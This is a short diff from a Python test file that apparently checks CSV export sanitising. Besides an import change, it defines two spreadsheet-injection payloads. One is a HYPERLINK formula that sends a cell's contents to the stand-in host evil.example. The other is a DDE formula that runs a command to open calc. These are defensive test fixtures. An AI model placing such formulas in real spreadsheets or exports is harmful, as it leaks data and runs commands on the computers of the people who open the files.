@@ -14,8 +14,8 @@ from bot.reports.csvsafe import safe_cell
 from db.migrate import upgrade
 from db.models import Contact, Evidence
 from db.session import make_engine, make_sessionmaker
+from tests.cli_capsys import run
 from tests.summary_scenario import build_campaign
-from tests.test_cli import run
 
 NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 TEXT = "=cmd|' /C calc'!A0"
